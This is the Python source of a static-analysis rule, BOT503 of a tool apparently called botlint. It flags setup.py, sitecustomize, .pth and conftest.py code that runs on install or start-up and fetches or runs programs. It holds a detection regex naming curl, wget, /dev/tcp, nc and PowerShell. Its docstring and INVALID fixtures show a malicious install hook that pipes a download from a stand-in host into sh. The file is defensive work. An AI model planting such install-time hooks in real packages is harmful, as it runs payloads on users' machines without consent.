"""BOT503: code that runs when a package is installed, when Python starts, or when pytest starts."""
from __future__ import annotations

import os
import re
from typing import Dict, List, Optional, Set, Tuple

import libcst as cst

from ...analysis.imports import dotted
from ...analysis.hosts import host_of, is_exchange_host, is_local_host
from ...analysis.literals import literal_str
from ...model import Severity
from ._family import PROCESS, Bot5Walk, is_network_call, names_in, restricted, strings_in
from .bot501_exec_of_decoded_code import describe

from ...gates.bot5 import BOT503 as PRECHECK, CONFTEST, PTH, SETUP, STARTUP  # noqa: E402,F401 (libcst-free)


# setuptools / distutils commands a cmdclass override runs on `pip install`
INSTALL_COMMANDS = frozenset(
    """install develop egg_info build_py build_ext build sdist bdist_wheel bdist_egg easy_install install_lib
    install_scripts install_data build_clib""".split()
)
# a command line that fetches or runs something (not `git describe`, `make`, `cmake`)
_FETCH_OR_SHELL = re.compile(
    r"(?i)\bcurl\b|\bwget\b|powershell|invoke-webrequest|\biwr\b|certutil|bitsadmin|mshta|rundll32|regsvr32|"
    r"https?://|\bpython[23]?(?:\.exe)?\s+-c\b|\b(?:ba)?sh\s+-c\b|/dev/tcp/|\bnc\s+-|chmod\s+\+x|base64\s+-d|"
    r"\.exe\b|\.vbs\b|\.ps1\b|\bpip\d?\s+install\s+(?:git\+|https?:)|start\s+/b|nohup\b|schtasks|crontab"
)


class InstallTimeExecution(Bot5Walk):
    """## What it does
    Finds code that runs without anyone calling it:

    - in `setup.py`: top-level code and `cmdclass` command overrides (`class
      PostInstall(install)`) that make network requests, run downloaded or decoded code, or
      start a program that downloads or runs one (`curl`, `wget`, PowerShell, `python -c`,
      an `.exe`);
    - `sitecustomize.py` / `usercustomize.py` (imported by every Python start) and the
      `import` lines of a shipped `.pth` file (run by `site` on every start) doing any of that,
      or starting any program;
    - `conftest.py` (imported by `pytest`) doing it at import time, in a `pytest_*` hook or in
      an `autouse` fixture;
    - any code writing a `.pth` file with an `import` line into an environment (Python runs
      such lines at every start), and a `setup.py` copying a `.pth` file into site-packages
      (`site.getsitepackages()`, `get_python_lib()`).

    The module's own functions these hooks call (or hand to a thread or `atexit`) are followed
    three calls deep, and a command kept in a variable (`cmd = "powershell ..." % dst;
    Popen(cmd)`) is read through it.  `botlint audit` also reports a `setup.py` that names a
    `.pth` file BOT5 reported (it ships that file's `import` line).

    ## Why is this bad?
    `pip install` runs `setup.py`; Python runs `sitecustomize.py` on every start; `pytest`
    imports `conftest.py` before any test.  Malicious packages aimed at crypto traders use these
    hooks so the payload runs before the victim ever starts the bot.  A setup script has no
    business on the network or in a shell.

    ## Example
    ```python
    from setuptools import setup
    from setuptools.command.install import install

    class PostInstall(install):
        def run(self):
            install.run(self)
            os.system("curl -s https://example.net/s.sh | sh")

    setup(name="ai-arbitrage-bot", cmdclass={"install": PostInstall})
    ```

    ## Use instead
    ```python
    setup(name="ai-arbitrage-bot", install_requires=["ccxt"])  # declarative; no hooks
    ```

    ## Known problems
    `subprocess.check_output(["git", "describe"])`, `make` and compilers in `setup.py` are
    not reported: only commands that fetch or run downloaded things.  `.pth` files are not
    scanned yet: botlint's file discovery treats `.pth` as a (PyTorch) binary suffix.
    Code that writes a `.pth` file with an `import` line is reported (the persistence trick);
    a `.pth` copied into the build (`self.build_lib`) is not, on its own: pytest-cov ships one
    that way.  Functions imported from other modules are not followed.

    ## References
    - [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
    - [Python docs: site — site-specific configuration hook](https://docs.python.org/3/library/site.html)
    - [Checkmarx: malicious packages with install hooks](https://checkmarx.com/blog/)
    """

    CODE = "BOT503"
    NAME = "install-time-execution"
    SEVERITY = Severity.CRITICAL
    CWE = 506
    MESSAGE = "Code that runs on install, on Python start or on pytest start fetches or runs code"
    PRECHECK = PRECHECK

    EXAMPLE_FILENAME = "setup.py"
    VALID = (
        'import subprocess\nfrom setuptools import setup\n'
        'version = subprocess.check_output(["git", "describe"]).decode()\nsetup(name="bot", version=version)\n',
        'from setuptools import setup\nexec(open("bot/version.py").read())\nsetup(name="bot")\n',
        'import requests\ndef fetch():\n    return requests.get("https://api.binance.com/api/v3/time")\n',
    )
    INVALID = (
        'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n'
        'class PostInstall(install):\n    def run(self):\n        install.run(self)\n'
        '        os.system("curl -s https://example.net/s.sh | sh")\n\n'
        'setup(name="bot", cmdclass={"install": PostInstall})\n',
        'import urllib.request\nfrom setuptools import setup\n'
        'urllib.request.urlopen("http://203.0.113.9/i").read()\nsetup(name="bot")\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        base = os.path.basename(ctx.path.replace("\\", "/"))
        self.kind = (SETUP if base == SETUP else "startup" if base in STARTUP or base.endswith(PTH)
                     else CONFTEST if base == CONFTEST else "")
        self.stack: List[Tuple[str, bool]] = []  # (kind, runs-on-its-own)
        self.calls: List[Tuple[cst.Call, str]] = []
        # a .pth file written with an `import` line: site runs that line on every Python start
        self.pth: List[cst.SimpleString] = []
        self.import_lines = 0
        self.writes = 0
        # the calls made in each function of the module (by name): a hook calling ``_persist()``
        # runs what ``_persist`` does
        self.fn_calls: Dict[str, List[cst.Call]] = {}
        self.defs: List[str] = []
        self.site_dirs = False  # the module names site-packages (``site.getsitepackages()``)

    # -- where we are --------------------------------------------------------------------
    def _runs(self) -> bool:
        return all(active for _kind, active in self.stack)

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        super().visit_ClassDef(node)
        hook = self.kind == SETUP and any(
            (dotted(b.value) or "").rsplit(".", 1)[-1] in INSTALL_COMMANDS for b in node.bases)
        self.stack.append(("class", hook or self.kind == "startup"))

    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
        self.stack.pop()

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        in_hook_class = bool(self.stack) and self.stack[-1] == ("class", True)
        active = self.kind == "startup" or in_hook_class or (
            self.kind == CONFTEST and not self.stack and (node.name.value.startswith("pytest_") or _autouse(node)))
        self.stack.append(("def", active))
        self.defs.append(node.name.value)

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.stack.pop()
        self.defs.pop()

    def visit_Attribute(self, node: cst.Attribute) -> None:
        if node.attr.value in _SITE_DIR_ATTRS:
            self.site_dirs = True

    def visit_Name(self, node: cst.Name) -> None:
        if node.value in _SITE_DIR_ATTRS:  # from distutils.sysconfig import get_python_lib
            self.site_dirs = True

    def visit_Call(self, node: cst.Call) -> None:
        if self.kind and self._runs():
            self.calls.append((node, self.kind))
        if self.kind and self.defs:
            self.fn_calls.setdefault(self.defs[-1], []).append(node)
        if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("write", "write_text", "writelines"):
            self.writes += 1

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        s = literal_str(node)
        if not s:
            return
        if "site-packages" in s or "dist-packages" in s:
            self.site_dirs = True
        if s.endswith(".pth") and len(s) > 4:
            self.pth.append(node)
        elif s.lstrip().startswith("import ") or "\nimport " in s:
            self.import_lines += 1

    # -- judgement -----------------------------------------------------------------------
    def leave_Module(self, original_node: cst.Module) -> None:
        when = {SETUP: "on `pip install` (setup.py)", "startup": "on every Python start (site customization)",
                CONFTEST: "when pytest starts (conftest.py)"}
        un = self.unwrapper()
        done: Set[int] = set()
        for call, kind in self.calls:
            what = self._what(call, kind, un)
            if what:
                done.add(id(call))
                self.report(call, f"runs {when[kind]}: {what}")
        # the module's own functions the running code calls (or hands to a thread, ``atexit``):
        # ``class I(install): def run(self): _persist()`` runs ``_persist``'s calls on install
        frontier = [(name, kind) for call, kind in self.calls for name in self._called(call)]
        followed: Set[str] = set()
        for _depth in range(3):
            nxt: List[Tuple[str, str]] = []
            for name, kind in frontier:
                if name in followed:
                    continue
                followed.add(name)
                for call in self.fn_calls.get(name, []):
                    if id(call) in done:
                        continue
                    what = self._what(call, kind, un)
                    if what:
                        done.add(id(call))
                        self.report(call, f"runs {when[kind]} (through `{name}()`): {what}")
                    nxt.extend((n, kind) for n in self._called(call))
            frontier = nxt
        if self.import_lines and self.writes:
            for node in self.pth:
                self.report(node, "writes a .pth file with an `import` line: Python's site module runs that line "
                                  "on every start, before any of your code")

    def _what(self, call: cst.Call, kind: str, un) -> Optional[str]:
        name = self.qualify(call.func) or ""
        if is_network_call(name):
            url = call.args[0].value if call.args else None
            host = host_of(literal_str(url) or "") if url is not None else None
            if host and (is_exchange_host(host) or is_local_host(host)):
                return None  # a conftest pinging the exchange's testnet before live tests
            return f"a network request ({name})"
        if kind == SETUP and self.site_dirs and (name in _COPIES or isinstance(call.func, cst.Attribute)
                                                 and call.func.attr.value in ("copy_file", "move_file")):
            if ".pth" in self._text_of(call):
                return f"{name or 'a copy'}() puts a .pth file into site-packages: Python's site module runs its " \
                       "`import` lines on every start"
            return None
        if name in PROCESS:
            text = self._text_of(call)
            if kind == "startup" or _FETCH_OR_SHELL.search(text):
                return f"{name}() of a command that downloads or runs a program" if kind != "startup" \
                    else f"{name}() starts a program"
            return None
        which = self.code_builtin(call.func)
        if which and call.args and not restricted(call):
            msg = describe(which, un.payload(call.args[0].value))
            return msg or None
        return None


    def _text_of(self, call: cst.Call) -> str:
        """The literal text of a call and of what the names it uses are bound to (two steps):
        ``cmd = "powershell -w hidden ..." % dst; Popen(cmd, shell=True)``."""
        parts = [strings_in(call)]
        seen: Set[str] = set()
        frontier = names_in(call)
        for _depth in range(2):
            nxt: Set[str] = set()
            for n in sorted(frontier - seen):
                seen.add(n)
                for v in (self.names.values.get(n) or [])[:3]:
                    parts.append(strings_in(v))
                    nxt |= names_in(v)
            frontier = nxt
        return " ".join(p for p in parts if p)

    def _called(self, call: cst.Call) -> List[str]:
        """The module functions a call runs: ``helper()``, ``Thread(target=helper)``,
        ``atexit.register(helper)``."""
        functions = self.names.functions
        out = [call.func.value] if isinstance(call.func, cst.Name) and call.func.value in functions else []
        out += [a.value.value for a in call.args if isinstance(a.value, cst.Name) and a.value.value in functions]
        return out


# copies that can put a file into a directory
_COPIES = frozenset(("shutil.copy", "shutil.copy2", "shutil.copyfile", "shutil.move", "os.rename", "os.replace",
                     "os.link", "os.symlink", "distutils.file_util.copy_file"))
# the site-packages directories (where a .pth file runs on every start)
_SITE_DIR_ATTRS = frozenset(("getsitepackages", "getusersitepackages", "get_python_lib", "USER_SITE"))


def _autouse(node: cst.FunctionDef) -> bool:
    for d in node.decorators:
        dec = d.decorator
        if isinstance(dec, cst.Call) and any(a.keyword and a.keyword.value == "autouse" for a in dec.args):
            return True
    return False
